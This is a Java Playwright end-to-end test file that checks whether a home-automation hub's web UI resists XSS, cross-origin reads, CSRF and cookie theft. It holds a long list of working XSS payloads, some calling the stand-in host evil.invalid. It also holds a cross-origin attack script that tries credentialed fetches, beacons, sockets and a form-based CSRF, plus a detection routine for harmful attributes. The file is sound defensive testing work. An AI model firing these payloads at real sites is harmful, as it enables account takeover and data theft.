package io.moonfleet.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.assertions.LocatorAssertions;
import com.sun.net.httpserver.HttpServer;
import io.moonfleet.harness.Moonfleet;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Issue 7: "XSS in every UI text", "cookie theft across origin", "CSRF", in a real browser that somebody is signed in with. */
@Needs(Needs.Program.CHROMIUM)
class BrowserAttackTest {

    private static final Duration PATIENCE = Duration.ofSeconds(60);
    private static final String PASSWORD = "correct horse";
    private static final JsonMapper JSON = new JsonMapper();

    /** Each would set {@code window.got}, open a dialog, or ask {@code evil.invalid} for something. HOME is the home's own address. */
    private static final List<String> PAYLOADS = List.of(
            "<script>window.got='script'</script>",
            "<scr<script>ipt>window.got='nested'</script>",
            "<SCRIPT/SRC=//evil.invalid/x.js></SCRIPT>",
            "<img src=x onerror=window.got='onerror'>",
            "<img src='http://pictures.invalid/x' onload=window.got='onload' onerror=window.got='onerror'>",
            "<img/src=`x`onerror=window.got='backtick'>",
            "<img src=x:x onerror\n=window.got='newline'>",
            "<img src='javascript:window.got=1'>",
            "<img src='data:text/html,<script>parent.got=1</script>'>",
            "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.got=1'/>\">",
            "<img srcset='http://evil.invalid/set 2x' src='http://pictures.invalid/y'>",
            "<img src='HOME/api/globalVariables/canary/by-picture'>",
            "<img src='HOME/%61pi/scenes/1/execute'>",
            "<img src='HOME//api/scenes/1/execute'>",
            "<img src='HOME/x/../api/scenes/1/execute'>",
            "<svg onload=window.got='svg'>",
            "<svg><script>window.got='svgscript'</script></svg>",
            "<svg><animate onbegin=window.got='animate' attributeName=x dur=1s>",
            "<svg><a xlink:href='javascript:window.got=1'><text>x</text></a></svg>",
            "<svg><style><img src=x onerror=window.got='svgstyle'></style></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.got=1&gt;'>",
            "<math href='javascript:window.got=1'>x</math>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.got='mutation'>",
            "<noscript><p title='</noscript><img src=x onerror=window.got=1>'>",
            "<template><img src=x onerror=window.got='template'></template>",
            "<iframe src='javascript:parent.got=1'></iframe>",
            "<iframe srcdoc='<script>parent.got=1</script>'></iframe>",
            "<object data='javascript:window.got=1'></object>",
            "<embed src='//evil.invalid/x.swf'>",
            "<a href='javascript:window.got=1' id=link>x</a>",
            "<a href='//evil.invalid/' ping='//evil.invalid/ping'>x</a>",
            "<form action='//evil.invalid/'><button formaction='javascript:window.got=1'>x</button></form>",
            "<input autofocus onfocus=window.got='focus'>",
            "<select autofocus onfocus=window.got='select'>",
            "<textarea autofocus onfocus=window.got='textarea'>",
            "<video><source onerror=window.got='source'></video>",
            "<audio src=x onerror=window.got='audio'>",
            "<details open ontoggle=window.got='toggle'>x</details>",
            "<marquee onstart=window.got='marquee'>x</marquee>",
            "<body onload=window.got='body'>",
            "<base href='http://evil.invalid/'>",
            "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
            "<link rel=stylesheet href='http://evil.invalid/x.css'>",
            "<style>@import 'http://evil.invalid/x.css';*{display:none}</style>",
            "<div style=\"background:url('http://evil.invalid/bg');position:fixed;inset:0;z-index:9999\">over all</div>",
            "<font color='red' style='behavior:url(#x)' onmouseover=window.got='font'>x</font>",
            "<table background='http://evil.invalid/table'><td background='http://evil.invalid/td'>x</table>",
            "<b id=got name=got class=button onclick=window.got='b'>x</b>",
            "<b onpointerrawupdate=window.got=1 onanimationstart=window.got=1>x</b>",
            "<moon-app onclick=window.got=1></moon-app>",
            "<x-y is=z onfocusin=window.got=1 tabindex=0>x</x-y>",
            "\"'><img src=x onerror=window.got='quote'>",
            "--><!--><img src=x onerror=window.got='comment'>",
            "]]><![CDATA[<img src=x onerror=window.got='cdata'>]]>",
            "</div></template></style></script><img src=x onerror=window.got='closing'>",
            "&lt;img src=x onerror=window.got='entity'&gt;",
            "&#60;script&#62;window.got=1&#60;/script&#62;",
            "${window.got=1}{{constructor.constructor('window.got=1')()}}<%= window.got %>",
            "[x](javascript:window.got=1) ![x](http://evil.invalid/markdown)",
            "\u0000<\u0000script>window.got='zero'</script>",
            "\uFF1Cscript\uFF1Ewindow.got='wide'\uFF1C/script\uFF1E",
            "<img src=x onerror&equals;window.got='equals'>");

    /** What of those could do something, wherever it lies, also in shadows. The text of attributes that are only read is no harm. */
    private static final String LIVE_PARTS = """
            () => {
              const found = [];
              const forbidden = /^(script|iframe|object|embed|base|meta|link|form|math|template|noscript|style|video|audio|marquee|details|textarea|a)$/;
              const read = new Set(['aria-label', 'title', 'alt', 'placeholder', 'value']);
              const walk = (root) => {
                for (const element of root.querySelectorAll('*')) {
                  const written = element.closest('.label, .message, .caption, .button, .chip, option, .log');
                  if (written && written !== element && forbidden.test(element.localName)) found.push(element.outerHTML);
                  for (const { name, value } of element.attributes) {
                    const harmful = /^on/i.test(name) || (!read.has(name) && /javascript:|vbscript:|data:text|evil\\.invalid/i.test(value));
                    const clobbers = written && written !== element && /^(id|name|class|style|background|srcset|href|is)$/.test(name);
                    if (harmful || clobbers) found.push(element.outerHTML);
                  }
                  if (element.shadowRoot) walk(element.shadowRoot);
                }
              };
              walk(document.body);
              return found;
            }
            """;

    @TempDir
    private static Path folder;

    private static Moonfleet home;
    private static WebClient web;

    @BeforeAll
    static void aHomeWithAnAdministrator() {
        var add = List.of("users", "add", "anna", "--role", "admin", "--hub", folder.toString());
        try (var command = Moonfleet.command(add)) {
            command.type(PASSWORD);
            assertThat(command.awaitExit(PATIENCE)).as(command.output().text()).hasValue(0);
        }
        home = Moonfleet.served(folder);
        web = new WebClient();
    }

    @AfterAll
    static void stop() {
        if (web != null) {
            web.close();
        }
        if (home != null) {
            home.close();
        }
    }

    private static String send(String method, String path, String body) {
        var request = HttpRequest.newBuilder(home.api().resolve("/api" + path))
                .method(method, body == null ? BodyPublishers.noBody() : BodyPublishers.ofString(body));
        var answer = web.send(
                request, "Authorization", WebClient.basic("anna", PASSWORD), "Content-Type", "application/json");
        assertThat(answer.statusCode())
                .as(method + " " + path + " " + answer.body())
                .isBetween(200, 299);
        return answer.body();
    }

    private static int idOf(String answer) {
        try {
            return JSON.readTree(answer).path("id").asInt();
        } catch (IOException e) {
            throw new AssertionError(answer, e);
        }
    }

    private static Page signedIn(Browser browser) {
        var page = browser.page(home.pages().resolve("/login"));
        page.locator("input[name=user]").fill("anna");
        page.locator("input[name=password]").fill(PASSWORD);
        page.locator("button[type=submit]").click();
        assertThat(page.locator("moon-app")).isAttached();
        return page;
    }

    // ---- XSS

    private static ArrayNode screen(List<String> texts) {
        var rows = JSON.createArrayNode();
        for (int i = 0; i < texts.size(); i++) {
            for (var type : List.of("label", "button", "switch", "slider", "select", "image")) {
                var element = rows.addObject()
                        .put("type", "horizontal")
                        .putArray("components")
                        .addObject();
                element.put("type", type).put("name", type + i).put("text", texts.get(i));
                if (type.equals("select")) {
                    options(element, texts.get(i)).put("selectionType", i % 2 == 0 ? "single" : "multi");
                } else if (type.equals("image")) {
                    element.put("url", texts.get(i));
                }
            }
        }
        return rows;
    }

    private static ObjectNode options(ObjectNode select, String text) {
        select.putArray("options")
                .addObject()
                .put("type", "option")
                .put("text", text)
                .put("value", text);
        return select;
    }

    private static int quickApp(String name, List<String> texts) {
        var fqa = JSON.createObjectNode().put("name", name).put("type", "com.fibaro.multilevelSwitch");
        fqa.putObject("initialProperties").set("uiView", screen(texts));
        fqa.putArray("files")
                .addObject()
                .put("name", "main")
                .put("isMain", true)
                .put("content", """
                        function QuickApp:onInit() end

                        function QuickApp:say(text)
                          self:debug(text) self:trace(text) self:warning(text) self:error(text)
                          self:updateView('label0', 'text', text)
                          self:updateView('button0', 'text', text)
                          self:updateProperty('log', text)
                        end
                        """);
        return idOf(send("POST", "/quickApp", fqa.toString()));
    }

    @Test
    void attackByHtmlInAnyTextOfAPageRunsNothing() {
        var texts = PAYLOADS.stream()
                .map(text -> text.replace("HOME", home.pages().toString().replaceAll("/+$", "")))
                .toList();
        var name = "<img src=x onerror=window.got='name'>";
        var id = quickApp(name, texts);
        var room = idOf(send("POST", "/rooms", "{\"name\":\"<img src=x onerror=window.got='room'>\"}"));
        send("PUT", "/devices/" + id, "{\"roomID\":" + room + "}");
        var asked = new CopyOnWriteArrayList<String>();
        try (var browser = Browser.withoutPolicies()) {
            var page = signedIn(browser);
            page.onRequest(request -> asked.add(request.url()));
            page.onDialog(dialog -> {
                asked.add("dialog " + dialog.message());
                dialog.dismiss();
            });
            page.navigate(home.pages().resolve("/quickapp/" + id).toString());
            assertThat(page.locator("moon-element").nth(texts.size() * 6 - 1)).isAttached();
            for (var text : texts) {
                var argument = JSON.createObjectNode();
                argument.putArray("args").add(text);
                send("POST", "/devices/" + id + "/action/say", argument.toString());
            }
            send("POST", "/devices/" + id + "/action/say", "{\"args\":[\"that was all\"]}");
            assertThat(page.locator("moon-element .label").first())
                    .hasText("that was all", new LocatorAssertions.HasTextOptions().setTimeout((double)
                                    PATIENCE.toMillis()));
            assertThat(page.locator("moon-log .message").first()).isVisible();
            assertClean(page, asked);
            page.navigate(home.pages().resolve("/").toString());
            assertThat(page.getByText(name).first()).isVisible();
            assertClean(page, asked);
        }
    }

    private static void assertClean(Page page, List<String> asked) {
        assertThat((List<?>) page.evaluate(LIVE_PARTS)).isEmpty();
        assertThat(page.evaluate("() => window.got === undefined ? 'nothing' : String(window.got)"))
                .isEqualTo("nothing");
        assertThat(asked)
                .noneMatch(url -> url.contains("evil.invalid")
                        || url.startsWith("dialog")
                        || Pattern.compile("/api/").matcher(url).find());
        assertThat(page.url()).startsWith(home.pages().toString());
    }

    /** What HC3 shows is still shown, or the test above would pass with an empty page. */
    @Test
    void whatHc3ShowsIsShown() {
        var id = quickApp(
                "Harmless",
                List.of(
                        "<font color='red'><b>hot</b></font><br><i>x</i> <img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>"));
        try (var browser = Browser.open()) {
            var page = signedIn(browser);
            page.navigate(home.pages().resolve("/quickapp/" + id).toString());
            assertThat(page.locator(".label font[color=red] b")).hasText("hot");
            assertThat(page.locator(".label img")).isAttached();
        }
    }

    // ---- other origins

    /** A page of somebody else: on this host at another port, which browsers take for the same site, and on another one. */
    @Test
    void attackFromAnotherOriginReadsNothingChangesNothingAndGetsNoCookie() throws Exception {
        var cookies = new CopyOnWriteArrayList<String>();
        var evil = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        evil.createContext("/", exchange -> {
            var host = exchange.getRequestHeaders().getFirst("Host");
            if (host.startsWith("localhost")) {
                cookies.add(String.valueOf(exchange.getRequestHeaders().getFirst("Cookie")));
            }
            var page = "<!doctype html><title>evil</title>".getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().add("Content-Type", "text/html");
            exchange.sendResponseHeaders(200, page.length);
            exchange.getResponseBody().write(page);
            exchange.close();
        });
        evil.start();
        try (var browser = Browser.open()) {
            var own = signedIn(browser);
            for (var host : List.of("127.0.0.1", "localhost")) {
                var page = browser.page(
                        URI.create("http://" + host + ":" + evil.getAddress().getPort() + "/"));
                var through = (List<?>)
                        page.evaluate(FROM_ELSEWHERE, home.pages().toString().replaceAll("/+$", ""));
                assertThat(through).as("what a page of %s got", host).isEmpty();
            }
            assertThat(send("GET", "/globalVariables", null)).doesNotContain("planted");
            own.reload();
            assertThat(own.locator("moon-app")).isAttached();
            assertThat(own.evaluate("async () => (await fetch('/ui/session')).status"))
                    .isEqualTo(200);
            assertThat(own.evaluate("() => document.cookie")).asString().doesNotContain("moonfleet");
        } finally {
            evil.stop(0);
        }
        assertThat(cookies).isNotEmpty().containsOnly("null");
    }

    private static final String FROM_ELSEWHERE = """
            async (home) => {
              const through = [];
              const attempt = async (what, deed) => {
                try { const got = await deed(); if (got) through.push(what + ': ' + got); } catch { /* stopped, as it should be */ }
              };
              const read = (path, options) => attempt(path, async () => (await fetch(home + path, { credentials: 'include', ...options })).text());
              await read('/ui/session', {});
              await read('/api/devices', {});
              await read('/api/moonfleet/audit?format=csv', {});
              await read('/api/globalVariables', { method: 'POST', body: '{"name":"planted1","value":"x"}', headers: { 'Content-Type': 'application/json' } });
              const blind = { method: 'POST', mode: 'no-cors', credentials: 'include' };
              await fetch(home + '/api/globalVariables', { ...blind, body: '{"name":"planted2","value":"x"}' }).catch(() => 0);
              await fetch(home + '/logout', { ...blind, body: new URLSearchParams() }).catch(() => 0);
              await attempt('beacon', async () => { navigator.sendBeacon(home + '/api/globalVariables', '{"name":"planted3","value":"x"}'); });
              await attempt('socket', () => new Promise((resolve, reject) => {
                const socket = new WebSocket(home.replace('http', 'ws') + '/ui/socket');
                socket.onmessage = (message) => resolve(message.data);
                socket.onerror = reject; socket.onclose = reject;
              }));
              await attempt('frame', () => new Promise((resolve, reject) => {
                const frame = document.createElement('iframe');
                frame.src = home + '/';
                frame.onload = () => { try { resolve(frame.contentDocument && frame.contentDocument.body.innerHTML); } catch (e) { reject(e); } };
                document.body.append(frame);
              }));
              await attempt('script', () => new Promise((resolve, reject) => {
                const script = document.createElement('script');
                script.src = home + '/api/devices'; script.onload = () => resolve('loaded'); script.onerror = reject;
                document.body.append(script);
              }));
              const form = document.createElement('form');
              const target = document.createElement('iframe');
              target.name = 'target'; form.target = 'target'; form.method = 'post'; form.enctype = 'text/plain';
              form.action = home + '/api/globalVariables';
              const field = document.createElement('input');
              field.name = '{"name":"planted4","value":"'; field.value = '"}';
              form.append(field); document.body.append(target, form);
              await new Promise((done) => { target.onload = done; form.submit(); setTimeout(done, 5000); });
              if (document.cookie.includes('moonfleet')) through.push('cookie: ' + document.cookie);
              return through;
            }
            """;
}
